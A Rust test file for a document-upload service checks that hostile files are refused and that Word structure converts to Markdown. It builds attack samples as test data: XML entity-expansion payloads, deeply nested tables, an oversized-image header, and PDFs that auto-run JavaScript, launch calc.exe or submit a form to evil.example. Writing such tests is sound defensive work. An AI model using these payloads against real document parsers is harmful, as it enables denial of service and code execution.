//! Files that are made to harm: each is refused in a sentence, and the program answers whoever comes next.

use std::io::{Cursor, Write as _};
use std::process::{Command, Stdio};

use axum::http::StatusCode;
use clearinghouse::foreign::{MOST_KEPT, ask};
use clearinghouse::record::Kind;
use zip::write::SimpleFileOptions;

use super::persons::{Persons, to_files};
use crate::house::config;
use crate::house::files::{DOCUMENT, content_types, docx, docx_of, pdf_with, zipped};

/// A .docx with one more part, of bytes.
fn with(name: &str, content: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let mut part = |name: &str, content: &[u8]| {
        zip.start_file(name, SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
    };
    part("[Content_Types].xml", content_types(DOCUMENT).as_bytes());
    part("word/document.xml", b"<w:document/>");
    part(name, content);
    zip.finish().unwrap().into_inner()
}

#[tokio::test]
async fn what_is_made_to_harm_is_refused_and_the_next_one_is_answered() {
    let persons = Persons::new().await;
    let letter = persons.letter().await;
    let nested = "<w:tbl><w:tr><w:tc>".repeat(20_000);
    let nested = docx_of(&format!("{nested}{}", "</w:tc></w:tr></w:tbl>".repeat(20_000)), &[]);
    assert!(nested.len() < 8_000, "{}", nested.len());
    let lol = "<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
    let entities = zipped(&[
        ("[Content_Types].xml", &content_types(DOCUMENT)),
        ("word/document.xml", &format!("{lol}<w:document><w:p><w:t>&b;</w:t></w:p></w:document>")),
    ]);
    // 20 000 × 20 000 points, of which nothing is there.
    let picture =
        with("word/media/a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x4e\x20\0\0\x4e\x20\x08\x02\0\0\0");
    let in_styles = with("word/styles.xml", lol.as_bytes());
    let mut broken = docx("A text");
    broken.truncate(broken.len() / 2);
    for (what, content, says) in [
        ("tables in tables", &nested, "deeper in one another"),
        ("entities", &entities, "declares entities of its own"),
        ("entities of styles", &in_styles, "declares entities of its own"),
        ("a picture", &picture, "more than 100 million points"),
        ("broken", &broken, "of none of the kinds that are taken"),
    ] {
        let answer = persons.russia.upload(&to_files(letter), "a.docx", content).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{what}");
        assert!(answer.says(says), "{what}: {}", answer.body);
        assert_eq!(persons.russia.get(&format!("/letters/{letter}")).await.status, StatusCode::OK, "{what}");
    }
    assert!(persons.house.record().await.files_of(Kind::Letter, letter).is_empty());
    let kept = "select count(*) from file_text";
    let kept: i64 = sqlx::query_scalar(kept).fetch_one(&persons.house.owner_pool).await.unwrap();
    assert_eq!(kept, 0, "nor is anything kept of what stands in them");
    persons.russia.upload(&to_files(letter), "a.docx", &docx("A text")).await.goes_to();
}

/// A PDF that runs, fetches or sends something is refused; one that shows a place when it is opened is not.
#[tokio::test]
async fn a_pdf_that_acts_by_itself_is_refused() {
    let persons = Persons::new().await;
    let letter = persons.letter().await;
    let pdf = |catalogue: &str, more: &str| {
        let catalogue = format!("/Type/Catalog/Pages 2 0 R{catalogue}");
        let objects =
            [(catalogue.as_str(), ""), ("/Kids[3 0 R]/Count 1", ""), ("/Type/Page", ""), (more, "")];
        pdf_with(&objects, more)
    };
    for (what, content) in [
        ("a script", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "")),
        ("a script elsewhere", pdf("/OpenAction 4 0 R", "/Type/Action/S/JavaScript/JS(app.alert(1))")),
        ("a name with signs", pdf("/OpenAction<</S/Java#53cript/JS(app.alert(1))>>", "")),
        ("a program", pdf("/AA<</WC<</S/Launch/F(calc.exe)>>>>", "")),
        ("a form", pdf("", "/Subtype/Widget/A<</S/SubmitForm/F(http://evil.example)>>")),
    ] {
        let answer = persons.russia.upload(&to_files(letter), "a.pdf", &content).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{what}");
        assert!(answer.says("does something when it is opened"), "{what}: {}", answer.body);
    }
    let shows = pdf("/OpenAction[3 0 R/Fit]", "/S/GoTo/D[3 0 R/Fit]");
    persons.russia.upload(&to_files(letter), "a.pdf", &shows).await.goes_to();
    // A file that calls itself another kind than it is.
    for (name, content) in [("a.docx", pdf("", "")), ("a.pdf", docx("A text"))] {
        let answer = persons.russia.upload(&to_files(letter), name, &content).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(answer.says("it is not what it says"), "{name}: {}", answer.body);
    }
}

#[tokio::test]
async fn ten_thousand_pages_are_more_than_is_read() {
    // Two thousand letters a page.
    let line = format!("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", "consultations ".repeat(143));
    let long = docx_of(&line.repeat(10_000), &[]);
    let program = config().program;
    assert_eq!(ask::what(&program, &long).await.unwrap_err().key, "error-file-text-long");
    assert_eq!(ask::text(&program, &long).await.unwrap_err().key, "error-file-text-long");
    // Half a million letters are read.
    let book = docx_of(&line.repeat(250), &[]);
    assert_eq!(ask::text(&program, &book).await.unwrap().blocks.len(), 250);
    // Seven hundred and fifty pages are enclosed, and found by their first million letters; nobody brings them into a form.
    let volume = docx_of(&line.repeat(750), &[]);
    let found = ask::what(&program, &volume).await.unwrap();
    assert_eq!((found.pages, found.text.chars().count()), (None, MOST_KEPT));
    assert_eq!(ask::text(&program, &volume).await.unwrap_err().key, "error-file-text-long");
}

#[tokio::test]
async fn a_child_that_dies_or_is_none_is_a_refusal() {
    for program in ["/bin/false", "/bin/echo", "/no/such/program"] {
        let said = ask::text(program.as_ref(), b"PK").await.unwrap_err();
        assert_eq!(said.key, "error-file-unread", "{program}");
    }
}

/// What a child may, as the system knows it while it waits for its file.
#[test]
fn a_child_is_bounded_before_it_reads() {
    let mut child = Command::new(config().program)
        .args([ask::COMMAND, "text"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let limits = format!("/proc/{}/limits", child.id());
    let of = |name: &str| {
        let text = std::fs::read_to_string(&limits).unwrap();
        let line = text.lines().find(|line| line.starts_with(name)).unwrap().to_owned();
        line[name.len()..].split_whitespace().next().unwrap().to_owned()
    };
    for _ in 0..200 {
        if of("Max processes") == "0" {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let said = ["Max address space", "Max cpu time", "Max open files", "Max file size", "Max core file size"]
        .map(of);
    drop(child.stdin.take());
    child.wait().unwrap();
    assert_eq!(said, [&(768_u64 << 20).to_string(), "20", "0", "0", "0"]);
}

#[tokio::test]
async fn headings_numbers_tables_and_emphasis_become_markdown() {
    let styled = |style: &str, text: &str| {
        format!("<w:p><w:pPr><w:pStyle w:val=\"{style}\"/></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>")
    };
    let numbered = |number: u8, level: u8, text: &str| {
        format!(
            "<w:p><w:pPr><w:numPr><w:ilvl w:val=\"{level}\"/><w:numId w:val=\"{number}\"/></w:numPr></w:pPr>\
             <w:r><w:t>{text}</w:t></w:r></w:p>"
        )
    };
    let cell = |text: &str| format!("<w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>");
    let body = [
        styled("Rubrik1", "General provisions"),
        numbered(1, 1, "The Chair convenes."),
        numbered(1, 1, "The Committee decides:"),
        numbered(1, 2, "by consensus;"),
        numbered(1, 2, "in writing."),
        styled("Rubrik1", "Final provisions"),
        numbered(1, 1, "It enters into force."),
        numbered(2, 0, "a dot"),
        "<w:p><w:r><w:t xml:space=\"preserve\">This is </w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>not</w:t></w:r>\
         <w:r><w:t xml:space=\"preserve\"> to be </w:t></w:r><w:r><w:rPr><w:i/></w:rPr><w:t>inter alia</w:t></w:r></w:p>"
            .to_owned(),
        format!("<w:tbl><w:tr>{}{}</w:tr><w:tr>{}{}</w:tr></w:tbl>", cell("When"), cell("What"), cell("2023"), cell("A | B")),
        "<w:p><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p>".to_owned(),
    ];
    let level = |depth: u8, format: &str, text: &str, style: &str| {
        format!(
            "<w:lvl w:ilvl=\"{depth}\"><w:start w:val=\"1\"/><w:numFmt w:val=\"{format}\"/>{style}<w:lvlText w:val=\"{text}\"/></w:lvl>"
        )
    };
    let numbering = format!(
        "<w:numbering><w:abstractNum w:abstractNumId=\"0\">{}{}{}</w:abstractNum>\
         <w:abstractNum w:abstractNumId=\"1\">{}</w:abstractNum>\
         <w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num><w:num w:numId=\"2\"><w:abstractNumId w:val=\"1\"/></w:num></w:numbering>",
        level(0, "upperRoman", "%1.", "<w:pStyle w:val=\"Rubrik1\"/>"),
        level(1, "decimal", "%2.", ""),
        level(2, "lowerLetter", "(%3)", ""),
        level(0, "bullet", "•", ""),
    );
    let styles = "<w:styles><w:style w:styleId=\"Rubrik1\"><w:name w:val=\"heading 1\"/><w:pPr><w:numPr><w:numId w:val=\"1\"/></w:numPr>\
                  </w:pPr></w:style></w:styles>";
    let content = docx_of(&body.concat(), &[("word/numbering.xml", &numbering), ("word/styles.xml", styles)]);
    let text = ask::text(&config().program, &content).await.unwrap();
    // The second level begins anew under the second heading.
    let expected = "# I. General provisions\n\n1. The Chair convenes.\n\n2. The Committee decides:\n\n(a) by consensus;\n\n\
                    (b) in writing.\n\n# II. Final provisions\n\n1. It enters into force.\n\n- a dot\n\n\
                    This is **not** to be *inter alia*\n\n| When | What |\n| --- | --- |\n| 2023 | A \\| B |";
    assert_eq!(text.markdown(), expected);
    assert_eq!(text.left.iter().map(|left| left.as_str()).collect::<Vec<_>>(), ["notes"]);
}
